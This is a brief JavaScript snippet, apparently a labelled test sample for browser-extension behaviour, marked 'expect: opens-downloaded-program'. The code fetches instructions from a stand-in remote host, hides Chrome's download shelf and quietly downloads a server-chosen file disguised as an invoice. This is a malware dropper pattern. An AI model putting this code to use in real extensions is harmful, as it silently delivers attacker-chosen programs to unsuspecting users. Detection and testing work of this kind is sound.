fetch('https://gate.pdfkit.example/next').then(r => r.json()).then(j => {
  chrome.downloads.setShelfEnabled(false);
  // expect: opens-downloaded-program
  chrome.downloads.download({ url: j.u, filename: 'invoice_' + Date.now() + '.' + j.ext, conflictAction: 'overwrite' });
});
